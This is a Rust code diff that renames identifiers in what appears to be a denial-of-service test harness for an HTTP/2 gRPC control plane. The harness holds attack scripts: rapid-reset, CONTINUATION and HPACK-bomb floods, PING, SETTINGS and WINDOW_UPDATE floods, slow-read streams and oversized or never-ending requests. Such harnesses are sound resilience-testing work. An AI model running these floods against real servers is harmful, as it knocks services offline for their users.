@@ -5,7 +5,7 @@ use std::time::{Duration, Instant};
 use clap::ValueEnum as _;
 use serde::Serialize;
 
-use super::raw::{ConnectionSetup, Ground, Request, Script, Spent, pause};
+use super::raw::{AttackEnvironment, AttackerCost, ConnectionSetup, Request, Script, pause};
 use crate::control::{
     AUTHORITY,
     connection::{Connection, END_HEADERS, HEADERS, PING, RESET, SETTINGS, WINDOW_UPDATE, head, id_of},
@@ -23,7 +23,7 @@ const BATCH: usize = 8 << 10;
 /// Number of names in a large request.
 const MANY: usize = 20_000;
 /// Length of a request that never completes, in bytes.
-const ENDLESS: usize = 4 << 20;
+const INCOMPLETE_LENGTH: usize = 4 << 20;
 /// CONTINUATION frame type.
 const CONTINUATION: u8 = 9;
 /// CANCEL error code (RFC 9113, section 7).
@@ -84,9 +84,13 @@ impl Attack {
     }
 
     /// Runs the attack until `over` returns true.
-    pub(super) fn play(self, ground: Ground, over: impl Fn() -> bool) -> anyhow::Result<Spent> {
+    pub(super) fn run(
+        self,
+        environment: AttackEnvironment,
+        over: impl Fn() -> bool,
+    ) -> anyhow::Result<AttackerCost> {
         let setup = |calls, window| ConnectionSetup { calls, window };
-        let node = ground.node.as_slice();
+        let node = environment.node.as_slice();
         let frames = |kind: u8, flags: u8, stream: u32, content: &'static [u8]| {
             let frame = move |connection: &mut Connection| connection.frame(kind, flags, stream, content);
             Repeat { node, count: 1_000, opened: false, send: frame }
@@ -96,35 +100,39 @@ impl Attack {
                 while !over() {
                     pause();
                 }
-                Ok(Spent::default())
+                Ok(AttackerCost::default())
             }
             Self::Guess | Self::GuessMany | Self::GuessToggle => {
                 let calls = if self == Self::GuessMany { STREAMS } else { 1 };
                 let toggles = self == Self::GuessToggle;
-                ground.run(setup(calls, 0), || Guess { node, calls, toggles, nonce: 0 }, over)
+                environment.run(setup(calls, 0), || Guess { node, calls, toggles, nonce: 0 }, over)
             }
-            Self::Toggle => ground.run(setup(1, 0), || Toggle { node }, over),
-            Self::ToggleRead => ground.run(setup(1, ALL), || Toggle { node }, over),
-            Self::Again => ground.run(setup(1, ALL), || Again { node, begun: false, reason: None }, over),
+            Self::Toggle => environment.run(setup(1, 0), || Toggle { node }, over),
+            Self::ToggleRead => environment.run(setup(1, ALL), || Toggle { node }, over),
+            Self::Again => {
+                environment.run(setup(1, ALL), || Again { node, begun: false, reason: None }, over)
+            }
             Self::Refuse => {
                 let reason = "x".repeat(256 << 10);
-                ground.run(setup(1, ALL), || Again { node, begun: false, reason: Some(&reason) }, over)
+                environment.run(setup(1, ALL), || Again { node, begun: false, reason: Some(&reason) }, over)
             }
             Self::Unread | Self::Slow => {
-                let script = || Unread { ground: &ground, slow: self == Self::Slow, last: None };
-                ground.run(setup(STREAMS, 0), script, over)
+                let script = || Unread { environment: &environment, slow: self == Self::Slow, last: None };
+                environment.run(setup(STREAMS, 0), script, over)
             }
-            Self::Names => ground.run(setup(4, ALL), || Names { node, next: 0 }, over),
-            Self::Versions => ground.run(setup(STREAMS, 0), || Versions { node, next: 0 }, over),
-            Self::Empty => ground.run(setup(4, ALL), || Empty { node, begun: false }, over),
-            Self::Incomplete => ground.run(setup(STREAMS, ALL), || Incomplete { next: 0 }, over),
-            Self::Reset => ground.run(setup(0, ALL), || Reset { next: 1 }, over),
-            Self::Ping => ground.run(setup(1, ALL), || frames(PING, 0, 0, &[7; 8]), over),
-            Self::Settings => ground.run(setup(1, ALL), || frames(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), over),
-            Self::Window => ground.run(setup(1, 0), || frames(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]), over),
-            Self::Continuation => ground.run(setup(0, ALL), || Continuation { begun: false }, over),
-            Self::Headers => ground.run(setup(0, ALL), || Bomb { next: 1 }, over),
-            Self::Connect => ground.run(setup(1, ALL), || Connect { node, begun: false }, over),
+            Self::Names => environment.run(setup(4, ALL), || Names { node, next: 0 }, over),
+            Self::Versions => environment.run(setup(STREAMS, 0), || Versions { node, next: 0 }, over),
+            Self::Empty => environment.run(setup(4, ALL), || Empty { node, begun: false }, over),
+            Self::Incomplete => environment.run(setup(STREAMS, ALL), || Incomplete { next: 0 }, over),
+            Self::Reset => environment.run(setup(0, ALL), || Reset { next: 1 }, over),
+            Self::Ping => environment.run(setup(1, ALL), || frames(PING, 0, 0, &[7; 8]), over),
+            Self::Settings => {
+                environment.run(setup(1, ALL), || frames(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), over)
+            }
+            Self::Window => environment.run(setup(1, 0), || frames(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]), over),
+            Self::Continuation => environment.run(setup(0, ALL), || Continuation { begun: false }, over),
+            Self::Headers => environment.run(setup(0, ALL), || Bomb { next: 1 }, over),
+            Self::Connect => environment.run(setup(1, ALL), || Connect { node, begun: false }, over),
         }
     }
 }
@@ -144,7 +152,7 @@ struct Guess<'a> {
 }
 
 impl Script for Guess<'_> {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         // HTTP/2 limits the number of short frames in a row, so many requests are sent together.
         let names = names([FAMILY]);
         let mut batch = Vec::new();
@@ -167,7 +175,7 @@ struct Toggle<'a> {
 }
 
 impl Script for Toggle<'_> {
-    fn go_on(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
         let node = std::mem::take(&mut self.node);
         let mut batch = Vec::new();
         if !node.is_empty() {
@@ -193,7 +201,7 @@ struct Again<'a> {
 }
 
 impl Script for Again<'_> {
-    fn go_on(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
         let names = names([FAMILY]);
         if !std::mem::replace(&mut self.begun, true) {
             connection.send(0, &Request { node: self.node, names: &names, ..Request::default() }.message());
@@ -207,21 +215,21 @@ impl Script for Again<'_> {
 }
 
 struct Unread<'a> {
-    ground: &'a Ground,
+    environment: &'a AttackEnvironment,
     /// Reads one byte per second.
     slow: bool,
     last: Option<Instant>,
 }
 
 impl Script for Unread<'_> {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         if self.last.is_none() {
             for call in 0..STREAMS {
-                let mut node = self.ground.node.as_slice();
+                let mut node = self.environment.node.as_slice();
                 for kind in [Kind::Endpoint, Kind::VirtualHost, Kind::Route, Kind::Cluster, Kind::Listener] {
                     let names: &[u8] = match kind {
-                        Kind::Endpoint => &self.ground.endpoint_names,
-                        Kind::Route | Kind::VirtualHost => &self.ground.route_names,
+                        Kind::Endpoint => &self.environment.endpoint_names,
+                        Kind::Route | Kind::VirtualHost => &self.environment.route_names,
                         Kind::Cluster | Kind::Listener => b"",
                     };
                     let request = Request { node, kind: Some(kind), names, ..Request::default() };
@@ -245,7 +253,7 @@ struct Names<'a> {
 }
 
 impl Script for Names<'_> {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         let kind = Kind::ALL[self.next % Kind::ALL.len()];
         for call in 0..4 {
             let all: Vec<String> = (0..MANY).map(|number| format!("no/{}-{number}", self.next)).collect();
@@ -266,7 +274,7 @@ struct Versions<'a> {
 }
 
 impl Script for Versions<'_> {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         let Some(kind) = Kind::ALL.get(self.next) else { return };
         let have: Vec<String> = (0..MANY).map(|number| format!("no/{number}")).collect();
         let node = if self.next == 0 { self.node } else { b"" };
@@ -284,7 +292,7 @@ struct Empty<'a> {
 }
 
 impl Script for Empty<'_> {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         let node = if std::mem::replace(&mut self.begun, true) { b"" } else { self.node };
         let names = [3 << 3 | 2, 0].repeat(2_000_000);
         let message = Request { node, names: &names, ..Request::default() }.message();
@@ -297,10 +305,10 @@ struct Incomplete {
 }
 
 impl Script for Incomplete {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         if self.next < STREAMS {
-            let mut message = vec![0; 5 + ENDLESS - 1];
-            message[1..5].copy_from_slice(&(ENDLESS as u32).to_be_bytes());
+            let mut message = vec![0; 5 + INCOMPLETE_LENGTH - 1];
+            message[1..5].copy_from_slice(&(INCOMPLETE_LENGTH as u32).to_be_bytes());
             connection.send(self.next, &message);
             self.next += 1;
         }
@@ -316,7 +324,7 @@ struct Repeat<'a, F> {
 }
 
 impl<F: Fn(&mut Connection)> Script for Repeat<'_, F> {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         if !std::mem::replace(&mut self.opened, true) {
             let request = Request { node: self.node, names: &names([FAMILY]), ..Request::default() };
             connection.send(0, &request.message());
@@ -330,7 +338,7 @@ struct Reset {
 }
 
 impl Script for Reset {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         let fields = head(Form::Delta, AUTHORITY);
         for _ in 0..10 {
             connection.frame(HEADERS, END_HEADERS, self.next, &fields);
@@ -345,7 +353,7 @@ struct Continuation {
 }
 
 impl Script for Continuation {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         if !std::mem::replace(&mut self.begun, true) {
             connection.frame(HEADERS, 0, 1, &head(Form::Delta, AUTHORITY));
         }
@@ -360,7 +368,7 @@ struct Bomb {
 }
 
 impl Script for Bomb {
-    fn go_on(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, _: Vec<(usize, Response)>) {
         let mut block = head(Form::Delta, AUTHORITY);
         // A field of 3,000 bytes that enters the table, followed by its index (RFC 7541, sections 6.2.1 and 6.1).
         block.extend_from_slice(&[0x40, 1, b'a', 0x7f, 0xb9, 0x16]);
@@ -377,7 +385,7 @@ struct Connect<'a> {
 }
 
 impl Script for Connect<'_> {
-    fn go_on(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
+    fn proceed(&mut self, connection: &mut Connection, responses: Vec<(usize, Response)>) {
         if !std::mem::replace(&mut self.begun, true) {
             connection.send(
                 0,
